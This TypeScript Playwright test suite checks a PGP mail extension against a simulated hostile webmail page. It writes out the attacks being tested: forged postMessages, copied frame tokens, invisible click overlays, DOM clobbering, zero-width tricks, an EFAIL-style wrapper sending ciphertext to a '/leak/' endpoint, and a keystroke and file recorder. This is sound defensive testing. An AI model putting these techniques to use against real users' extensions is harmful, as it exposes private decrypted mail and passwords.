/**
 * The web mail page is hostile (DESIGN §2, SECURITY A6). Its own script tries every trick against our
 * content script and frames; a local listener records every request; after each step the page's DOM must
 * hold no plaintext and nothing must have leaked.
 */
import type { Page } from '@playwright/test';
import { generateKey } from '../../keyring/pgp';
import { expect, test } from '../support/fixtures';
import { bob, enable, setUpProfile, type Profile } from '../support/identities';
import { messageHtml, messageText } from '../support/frames';
import { encryptTo, exfiltrationHtml, htmlMime, mailPage } from '../support/mail-fixtures';
import { pressGuarded } from '../support/guarded';
import { isFirefox } from '../support/engine';
import { sendDemoPasswordMail } from '../support/demo-password-mail';

const secret = 'TOP SECRET lab result 8842';

async function readerFrames(page: Page) {
  return page.locator('iframe[src*="reader.html"]');
}

async function decryptIn(page: Page, index = 0): Promise<void> {
  const reader = page.frameLocator('iframe[src*="reader.html"]').nth(index);
  await pressGuarded(reader.getByTestId('reader-open'));
  const prompt = reader.getByTestId('passphrase-input');
  if (await prompt.isVisible({ timeout: 3000 }).catch(() => false)) {
    await prompt.fill(bob.passphrase);
    await pressGuarded(reader.getByTestId('passphrase-submit'));
  }
  await expect(reader.getByTestId('reader-content')).toBeVisible();
}

async function pageLeaks(page: Page): Promise<string> {
  return page.evaluate(() => document.documentElement.outerHTML + JSON.stringify(localStorage) + document.title);
}

test.describe('hostile page', () => {
  let profile: Profile;
  let requests: string[];

  test.beforeEach(async ({ context, server }) => {
    profile = await setUpProfile(context, bob);
    await enable(profile, server.origin);
    requests = [];
    context.on('request', (r) => requests.push(r.url()));
  });

  const leaked = () => requests.filter((u) => u.includes('/leak/'));

  test('A6.1 forged postMessages to the window and to our frames trigger nothing', async ({ context, server }) => {
    const armored = await encryptTo(profile.publicKey, secret);
    server.page('/a61.html', mailPage(`<pre>${armored}</pre>`));
    const page = await context.newPage();
    await page.goto(server.url('/a61.html'));
    await expect(await readerFrames(page)).toHaveCount(1);
    await page.evaluate(() => {
      const token = (document.querySelector('iframe') as HTMLIFrameElement).src.split('#')[1] ?? '';
      const names = ['reader.claim', 'reader.decrypt', 'reader.importKey', 'editor.encrypt', 'keys.exportPrivate', 'content.insert'];
      for (const name of names) {
        const forged = { lockpane: 1, name, token, body: { token }, text: 'FORGED' };
        window.postMessage(forged, '*');
        for (let i = 0; i < window.frames.length; i++) window.frames[i]!.postMessage(forged, '*');
      }
    });
    // No web page can reach the worker directly: no externally_connectable.
    expect(await page.evaluate(() => typeof (globalThis as { chrome?: { runtime?: { sendMessage?: unknown } } }).chrome?.runtime?.sendMessage)).toBe('undefined');
    await page.waitForTimeout(500);
    const reader = page.frameLocator('iframe[src*="reader.html"]');
    await expect(reader.getByTestId('reader-content')).toHaveCount(0); // nothing was decrypted
    await expect(reader.getByTestId('reader-open')).toBeVisible();
    expect(await pageLeaks(page)).not.toContain(secret);
  });

  test('A6.2 frames are unreadable, take no instructions from their URL, and a copied token is refused', async ({ context, server, extensionOrigin }) => {
    const armored = await encryptTo(profile.publicKey, secret);
    server.page('/a62.html', mailPage(`<pre>${armored}</pre>`));
    const page = await context.newPage();
    await page.goto(server.url('/a62.html'));
    await expect(await readerFrames(page)).toHaveCount(1);
    await expect(page.frameLocator('iframe[src*="reader.html"]').getByTestId('reader-open')).toBeVisible(); // ours has claimed its token
    const probe = await page.evaluate((origin) => {
      const ours = document.querySelector('iframe') as HTMLIFrameElement;
      let readable = 'readable';
      try { void ours.contentWindow!.document; } catch (e) { readable = (e as Error).name; }
      const crafted = document.createElement('iframe');
      crafted.id = 'crafted';
      crafted.src = `${origin}/reader.html?armored=x&to=eve@evil.test#${'A'.repeat(43)}`;
      // The page can read our frame's address, token included: it copies both into a frame of its own.
      const copied = document.createElement('iframe');
      copied.id = 'copied';
      copied.src = ours.src;
      document.body.append(crafted, copied);
      return { readable, contentDocument: ours.contentDocument };
    }, extensionOrigin);
    expect(probe).toEqual({ readable: 'SecurityError', contentDocument: null });
    const crafted = page.frameLocator('#crafted');
    const copied = page.frameLocator('#copied');
    if (isFirefox()) {
      // Firefox has no use_dynamic_url: the frame page loads at its static address, and only the token
      // stands between it and the message. A forged token and one already claimed are both refused.
      await expect(crafted.getByTestId('reader-error')).toBeVisible();
      await expect(copied.getByTestId('reader-error')).toBeVisible();
    } else {
      // A static (non-dynamic) extension URL does not load in the page at all (use_dynamic_url); the copied
      // dynamic address loads the page, whose claim of a token already claimed is refused.
      await page.waitForTimeout(500);
      await expect(copied.getByTestId('reader-error')).toBeVisible();
    }
    await expect(crafted.getByTestId('reader-view')).toHaveCount(0);
    await expect(copied.getByTestId('reader-view')).toHaveCount(0);
    if (!isFirefox()) {
      expect(await page.evaluate(() => fetch(`chrome-extension://ekndomebbkmcdbphkccpepjnfhgbljgf/reader.html`).then(() => 'loaded', () => 'blocked'))).toBe('blocked');
    }
  });

  test('A6.3/A6.8 synthetic clicks and an invisible overlay cannot decrypt or open the editor', async ({ context, server }) => {
    const armored = await encryptTo(profile.publicKey, secret);
    server.page('/a63.html', mailPage(`<pre>${armored}</pre><textarea id="compose" aria-label="Message"></textarea>`));
    const page = await context.newPage();
    await page.goto(server.url('/a63.html'));
    await expect(await readerFrames(page)).toHaveCount(1);
    await page.locator('lockpane-secure').waitFor();
    await page.evaluate(() => {
      const frame = document.querySelector('iframe') as HTMLIFrameElement;
      frame.style.opacity = '0';
      const r = frame.getBoundingClientRect();
      for (const el of [frame, document.elementFromPoint(r.x + 20, r.y + 20)]) el?.dispatchEvent(new MouseEvent('click', { bubbles: true, clientX: r.x + 20, clientY: r.y + 20 }));
      document.querySelector('lockpane-secure')!.dispatchEvent(new MouseEvent('click', { bubbles: true }));
      (document.querySelector('lockpane-secure') as HTMLElement).click();
    });
    await page.waitForTimeout(800);
    await expect(page.locator('iframe[src*="editor.html"]')).toHaveCount(0);
    await expect(page.frameLocator('iframe[src*="reader.html"]').getByTestId('reader-content')).toHaveCount(0);
  });

  test('A6.4 injected ciphertexts are never auto-decrypted and every frame has the same size', async ({ context, server }) => {
    const mine = await encryptTo(profile.publicKey, secret);
    const stranger = await generateKey({ userIDs: [{ email: 'eve@example.test' }] });
    const forOthers = await encryptTo(stranger.publicKeyArmored, 'not for bob');
    const broken = mine.replace(/\n[A-Za-z0-9+/]{20}/, '\nAAAAAAAAAAAAAAAAAAAA');
    server.page('/a64.html', mailPage('<p>loading</p>', `
      setTimeout(() => {
        for (const block of ${JSON.stringify([mine, broken, forOthers])}) {
          const pre = document.createElement('pre'); pre.textContent = block; document.querySelector('.body').append(pre);
        }
      }, 200);`));
    const page = await context.newPage();
    await page.goto(server.url('/a64.html'));
    await expect(await readerFrames(page)).toHaveCount(3);
    await page.waitForTimeout(800);
    const sizes = await page.evaluate(() => [...document.querySelectorAll('iframe')].map((f) => `${f.offsetWidth}x${f.offsetHeight}`));
    expect(new Set(sizes).size).toBe(1);
    for (const i of [0, 1, 2]) await expect(page.frameLocator('iframe[src*="reader.html"]').nth(i).getByTestId('reader-content')).toHaveCount(0);
    // Even after decrypting the valid one, sizes stay identical (no length or success oracle).
    await decryptIn(page, 0);
    const after = await page.evaluate(() => [...document.querySelectorAll('iframe[src*="reader.html"]')].map((f) => `${(f as HTMLElement).offsetWidth}x${(f as HTMLElement).offsetHeight}`));
    expect(after).toEqual(sizes);
    expect(await pageLeaks(page)).not.toContain(secret);
  });

  test('A6.5 a lookalike frame drawn by the page cannot show the personal phrase', async ({ context, server, send }) => {
    server.page('/a65.html', mailPage('<div class="fake"><b>Lockpane</b> ✔ Signature verified — "I approve the payment"</div>'));
    const page = await context.newPage();
    await page.goto(server.url('/a65.html'));
    const indicator = await send('settings.indicator');
    const phrase = indicator.ok ? (indicator.value as { phrase: string }).phrase : 'missing';
    expect(await pageLeaks(page)).not.toContain(phrase);
  });

  test('A6.6 clobbering and hidden characters: blocks with hidden parts or zero-width characters are refused', async ({ context, server }) => {
    const armored = await encryptTo(profile.publicKey, secret);
    const lines = armored.split('\n');
    const hidden = [...lines.slice(0, 3), '<span style="display:none">AAAA</span>', ...lines.slice(3)].join('\n');
    const zeroWidth = armored.replace('\n\n', '\n\n\u200b');
    server.page('/a66.html', mailPage(
      `<form name="lockpane"><input name="root" id="root"></form><div id="lockpane-secure"></div>` +
      `<pre id="hidden">${hidden}</pre><pre id="zw">${zeroWidth}</pre><pre id="ok">${armored}</pre>`,
      'document.getElementById = () => null; window.browser = { runtime: {} };'));
    const page = await context.newPage();
    await page.goto(server.url('/a66.html'));
    await expect(await readerFrames(page)).toHaveCount(1);
    await expect(page.locator('#ok')).toBeHidden();
    await expect(page.locator('#hidden')).toBeVisible();
    await expect(page.locator('#zw')).toBeVisible();
  });

  test('A6.7 only the frame pages are web-accessible, and nothing answers the page', async ({ context, server, extensionOrigin }) => {
    server.page('/a67.html', mailPage('<p>probe</p>'));
    const page = await context.newPage();
    await page.goto(server.url('/a67.html'));
    const files = ['manifest.json', 'background.js', 'options.html', 'popup.html', 'reader.html', 'editor.html', '_locales/en/messages.json'];
    const results = await page.evaluate(async ([origin, list]) => {
      const out: Record<string, string> = {};
      for (const f of list) out[f] = await fetch(`${origin}/${f}`).then(() => 'loaded', () => 'blocked');
      return out;
    }, [extensionOrigin, files] as const);
    // Chromium: even the frame pages are out of reach at their static address (use_dynamic_url). Firefox:
    // the two frame pages (static markup, no data) are reachable, and only they; see docs/security.md.
    const reachable = isFirefox() ? ['reader.html', 'editor.html'] : [];
    expect(results).toEqual(Object.fromEntries(files.map((f) => [f, reachable.includes(f) ? 'loaded' : 'blocked'])));
  });

  test('A6.8 focus stealing while typing in the secure editor is shown inside the editor', async ({ context, server }) => {
    server.page('/a68.html', mailPage('<label>To <input id="to" value="bob@example.test"></label><textarea id="compose" aria-label="Message"></textarea><input id="decoy">'));
    const page = await context.newPage();
    await page.goto(server.url('/a68.html'));
    await page.locator('lockpane-secure').click();
    const editor = page.frameLocator('iframe[src*="editor.html"]');
    await editor.getByTestId('editor-body').click();
    await editor.getByTestId('editor-body').pressSequentially('private words');
    await page.evaluate(() => (document.getElementById('decoy') as HTMLInputElement).focus());
    await expect(editor.getByTestId('focus-lost')).toBeVisible();
    expect(await pageLeaks(page)).not.toContain('private words');
  });

  test('A1.1/A1.4 markup in a plain-text message is shown as text, inline in the reader, and makes no request', async ({ context, server }) => {
    // Plain text is rendered as text nodes in the reader itself (no sandboxed frame is needed for text):
    // the exfiltration channels written into a text/plain body must appear literally and load nothing.
    const markup = exfiltrationHtml(server.origin);
    const plain = `Content-Type: text/plain; charset=utf-8\r\n\r\n${secret}\r\n${markup}<script>parent.postMessage('x','*')</script>\r\n`;
    server.page('/a1-text.html', mailPage(`<pre>${await encryptTo(profile.publicKey, plain)}</pre>`));
    const page = await context.newPage();
    await page.goto(server.url('/a1-text.html'));
    await decryptIn(page);
    const reader = page.frameLocator('iframe[src*="reader.html"]');
    await expect(messageText(reader)).toContainText(secret);
    await expect(messageText(reader)).toContainText(`<img src="${server.origin}/leak/img">`);
    await expect(messageText(reader).locator('*')).toHaveCount(0);
    await expect(reader.locator('[data-testid="safe-frame"]')).toHaveCount(0);
    await page.waitForTimeout(1500);
    expect(leaked()).toEqual([]);
    expect(await pageLeaks(page)).not.toContain(secret);
  });

  test('A1.1/A1.4/A6.9 exfiltration channels and mXSS payloads in decrypted HTML make no request', async ({ context, server }) => {
    const armored = await encryptTo(profile.publicKey, htmlMime(`<html><body><p>${secret}</p>${exfiltrationHtml(server.origin)}</body></html>`));
    // EFAIL direct exfiltration: the page wraps the ciphertext in an unclosed attribute.
    server.page('/a1.html', mailPage(`<div>&lt;img src="${server.origin}/leak/efail-</div><pre>${armored}</pre><div>"&gt;</div>`));
    const page = await context.newPage();
    await page.goto(server.url('/a1.html'));
    await decryptIn(page);
    await expect(messageHtml(page.frameLocator('iframe[src*="reader.html"]'))).toContainText(secret);
    await page.waitForTimeout(1500);
    expect(leaked()).toEqual([]);
    expect(server.requests.filter((r) => r.startsWith('/leak/'))).toEqual([]);
    expect(await pageLeaks(page)).not.toContain(secret);
  });

  test('A6.10 password mail: the page\'s own scripts see only the notice and the HTML file, never the text, the file or the password', async ({ context, server }) => {
    const page = await context.newPage();
    // The page's recorder, installed before any of its scripts: every value typed or set in its fields,
    // every text it is shown, every message posted to it, and the bytes of every file put into its inputs.
    await page.addInitScript(() => {
      const seen: string[] = [];
      (window as unknown as { seen: string[] }).seen = seen;
      const record = (e: Event) => {
        const t = e.target as HTMLInputElement | null;
        if (!t) return;
        if (typeof t.value === 'string') seen.push(t.value);
        for (const f of t.files ?? []) void f.text().then((x) => seen.push(`${f.name}:${x}`));
      };
      for (const type of ['input', 'change', 'keydown', 'paste', 'drop']) document.addEventListener(type, record, true);
      window.addEventListener('message', (e) => seen.push(JSON.stringify(e.data)));
      new MutationObserver((records) => { for (const r of records) seen.push(r.target.textContent ?? ''); })
        .observe(document, { subtree: true, childList: true, characterData: true, attributes: true });
    });
    await page.goto(server.url('/demo/?me=bob@example.test'));
    const body = `${secret} for Carol`;
    const file = { name: 'lab.txt', mimeType: 'text/plain', buffer: Buffer.from(`${secret} in a file`) };
    const password = await sendDemoPasswordMail(page, { to: `carol.${Date.now()}@example.test`, subject: 'Results', body, file });
    await page.waitForTimeout(500); // the recorder reads the file it was given asynchronously
    const seen = await page.evaluate(() => (window as unknown as { seen: string[] }).seen.join('\n'));
    expect(seen).toContain('protected-message.html:'); // the recorder did see the file the page was given
    for (const s of [secret, password]) {
      expect(seen).not.toContain(s);
      expect(await pageLeaks(page)).not.toContain(s);
    }
  });
});
